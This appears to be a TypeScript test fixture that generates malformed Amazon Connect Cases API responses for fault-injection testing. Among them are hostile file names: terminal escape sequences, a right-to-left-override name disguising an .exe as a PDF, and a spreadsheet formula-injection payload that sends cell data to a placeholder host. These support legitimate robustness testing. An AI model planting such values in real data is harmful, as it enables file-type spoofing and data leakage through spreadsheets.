import { isWireObject, type WireObject } from "../connect-state/wire.ts";
import type { AnswerOddity } from "./fault.ts";

/** One way in which an answer can be odd. */
export interface OddityEntry {
  readonly line: string;
  readonly operations: readonly string[];
  /** Whether `every` means something to it. */
  readonly ofEntries: boolean;
  /** The odd answer; undefined where there is nothing in it to be odd. */
  spoil(answer: WireObject, every: number | undefined): WireObject | undefined;
}

const BATCH = ["BatchGetAttachedFileMetadata"];
const FILES = [...BATCH, "GetAttachedFile"];
const SEARCHES = ["SearchCases", "SearchRelatedItems", "SearchAllRelatedItems"];
/** One more than a number of JavaScript can count to. */
const BEYOND_2_53 = 9_007_199_254_740_993n;

export const ANSWER_ODDITIES: Readonly<Record<AnswerOddity, OddityEntry>> = {
  "missing-file": entries(BATCH, ["Files"], "A file is in neither list.", () => []),
  "repeated-file": entries(BATCH, ["Files"], "A file comes twice.", (file) => [file, file]),
  "unasked-file": whole("A file comes that nobody asked for.", ({ Files, ...rest }) => {
    const [first] = objectsOf(Files);
    if (first === undefined) return undefined;
    const stranger = { ...first, FileId: `${first.FileId}-unasked`, FileArn: `${first.FileArn}-unasked` };
    return { ...rest, Files: [...listOf(Files), stranger] };
  }),
  "reordered-files": whole("The files come in the opposite order.", (answer) =>
    listOf(answer.Files).length < 2 ? undefined : { ...answer, Files: listOf(answer.Files).toReversed() },
  ),
  "no-files-member": whole("There is no Files member.", ({ Files, ...rest }) =>
    Files === undefined ? undefined : rest,
  ),
  "no-errors-member": whole("There is no Errors member.", ({ Errors, ...rest }) =>
    Errors === undefined ? undefined : rest,
  ),
  "unknown-status": files("A file has a status that the model does not list.", { FileStatus: "QUARANTINED" }),
  "unknown-use-case": files("A file has a use case that the model does not list.", { FileUseCaseType: "HOLOGRAM" }),
  "unknown-creator": files("A file's CreatedBy is a union member that the model does not list.", {
    CreatedBy: { BotArn: "arn:aws:connect:eu-central-1:111122223333:instance/i-1/bot/b-1" },
  }),
  "extra-member": entries(
    [...FILES, ...SEARCHES],
    ["Files", "relatedItems", "cases"],
    "An entry has a member that the model does not list.",
    (entry) => [{ ...entry, AddedLater: { by: ["AWS"] } }],
  ),
  "error-without-file-id": whole("An error does not say which file it is about.", withoutFileId),
  "wrong-resource": files("A file names a resource that was not asked about.", (file) => ({
    AssociatedResourceArn: `${file.AssociatedResourceArn}-other`,
  })),
  "huge-size": files("A file's size needs 64 bits.", { FileSizeInBytes: BEYOND_2_53 }),
  "control-name": files("A file's name has control characters and a terminal's escapes.", {
    FileName: "report\u0000\u001b[2J\r\n\u0007.pdf",
  }),
  "bidi-name": files("A file's name is shown backwards in part, to hide its ending.", {
    FileName: "invoice\u202efdp.exe",
  }),
  "formula-name": files("A file's name is a formula to a spreadsheet.", {
    FileName: '=HYPERLINK("http://example.invalid/?"&A1,"open")',
  }),
  "null-entries": entries(
    [...BATCH, ...SEARCHES],
    ["Files", "relatedItems", "cases"],
    "A null stands before an entry.",
    (entry) => [null, entry],
  ),
  "repeated-entries": entries(SEARCHES, ["relatedItems", "cases"], "An entry comes twice.", (entry) => [entry, entry]),
};

function whole(line: string, spoil: (answer: WireObject) => WireObject | undefined): OddityEntry {
  return { line, operations: BATCH, ofEntries: false, spoil };
}

function files(line: string, members: WireObject | ((file: WireObject) => WireObject)): OddityEntry {
  return entries(FILES, ["Files"], line, (file) => [
    { ...file, ...(typeof members === "function" ? members(file) : members) },
  ]);
}

function entries(
  operations: readonly string[],
  lists: readonly string[],
  line: string,
  spoilEntry: (entry: WireObject) => readonly unknown[],
): OddityEntry {
  const spoil = (answer: WireObject, every: number | undefined): WireObject | undefined => {
    // GetAttachedFile's answer is the file.
    if (lists.includes("Files") && "FileName" in answer) return spoilEntry(answer)[0] as WireObject;
    const spoiled = lists.filter((name) => objectsOf(answer[name]).length > 0);
    if (spoiled.length === 0) return undefined;
    return { ...answer, ...Object.fromEntries(spoiled.map((name) => [name, spoilList(listOf(answer[name]), every)])) };
  };
  function spoilList(list: readonly unknown[], every: number | undefined): unknown[] {
    let index = -1;
    return list.flatMap((entry) => {
      if (!isWireObject(entry)) return [entry];
      index += 1;
      return index === 0 || (every !== undefined && index % every === 0) ? spoilEntry(entry) : [entry];
    });
  }
  return { line, operations, ofEntries: true, spoil };
}

/** The first error loses its id; where there is none, the first file becomes one. */
function withoutFileId(answer: WireObject): WireObject | undefined {
  const [first, ...others] = listOf(answer.Errors);
  if (isWireObject(first)) {
    const { FileId, ...rest } = first;
    return FileId === undefined ? undefined : { ...answer, Errors: [rest, ...others] };
  }
  const [file] = objectsOf(answer.Files);
  if (file === undefined) return undefined;
  const error = { ErrorCode: "InternalServiceException", ErrorMessage: "The file could not be read." };
  return { ...answer, Files: listOf(answer.Files).filter((each) => each !== file), Errors: [error] };
}

function listOf(value: unknown): readonly unknown[] {
  return Array.isArray(value) ? value : [];
}

function objectsOf(value: unknown): readonly WireObject[] {
  return listOf(value).filter(isWireObject);
}
